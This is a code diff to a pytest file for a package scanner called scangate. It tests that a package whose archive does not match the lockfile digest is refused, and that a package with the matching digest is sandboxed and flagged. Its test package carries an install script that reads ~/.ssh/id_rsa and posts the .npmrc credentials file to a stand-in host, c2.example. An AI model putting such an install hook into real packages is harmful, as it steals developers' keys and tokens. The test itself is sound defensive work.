@@ -1,5 +1,6 @@
 """`--local` and `scangate serve` with the real sandbox, on archives made by the tests: no registry is asked."""
 
+import base64
 import contextlib
 import json
 import os
@@ -7,16 +8,22 @@ import signal
 import subprocess
 import sys
 import time
+from collections.abc import Iterator
+from functools import partial
 from pathlib import Path
 
 import pytest
 
+from scangate.local.fetch import fetcher
+from scangate.models import Ecosystem
+from scangate.registries import DEFAULT_URL
 from tests import synthetic
 from tests.cli.conftest import Scangate
 from tests.cli.test_scan import tgz
 from tests.cli.test_serve import started
 from tests.cli.test_uploads import archive, lock
 from tests.local.conftest import WAIT_SECONDS
+from tests.local.fetch.registry import Registry, running
 
 pytestmark = pytest.mark.tool("bwrap", "strace", "ip", "unshare", "setpriv", "npm")
 FINE = ("fine", "1.0.0")
@@ -65,6 +72,36 @@ def test_what_the_local_engine_does_not_take(scangate: Scangate, project: Path) 
     assert result.code == 3
     assert "not supported by the local engine" in result.out.replace("\n", " ").replace("      ", " ")
     assert scangate("scan", "--local", "--rate", "5/s", "pkg:npm/a@1.0.0").code == 2
+
+
+@pytest.fixture
+def registry(monkeypatch: pytest.MonkeyPatch) -> Iterator[Registry]:
+    """Instead of the public ones: only the address differs."""
+    with running() as server:
+        here = partial(fetcher.PackageFetcher, npm=f"{server.url}/npm", pypi=f"{server.url}/simple")
+        monkeypatch.setattr(fetcher, "PackageFetcher", here)
+        yield server
+
+
+def test_another_archive_than_the_lockfile_promises_is_a_finding_and_not_run(
+    scangate: Scangate, project: Path, registry: Registry
+) -> None:
+    """With the right digest the same package is run, and denied for what it does."""
+    scripts = {"install": "cat ~/.ssh/id_rsa; curl --data-binary @$HOME/.npmrc http://c2.example/"}
+    digest = registry.npm("app", "1.0.0", scripts=scripts)
+
+    def checked(integrity: str) -> tuple[int, set[str], list[str]]:
+        lock(project, f"{DEFAULT_URL[Ecosystem.NPM]}app/-/app-1.0.0.tgz", integrity, ("app", "1.0.0"))
+        result = scangate("check", "--local", "--quiet", "--format", "json")
+        (package,) = result.json["packages"]  # type: ignore[misc]
+        outcomes = [outcome["code"] for outcome in package["outcomes"]]
+        return result.code, {finding["rule"] for finding in package["findings"]}, outcomes
+
+    assert checked(f"sha512-{'A' * 86}==") == (1, {"lock-integrity-mismatch"}, ["integrity-mismatch"])
+    right = "sha512-" + base64.b64encode(bytes.fromhex(digest.partition(":")[2])).decode()
+    code, rules, _ = checked(right)
+    assert code == 1
+    assert {"net-on-install", "file-ssh-key"} <= rules
 
 
 def slow(path: Path, name: str) -> None:
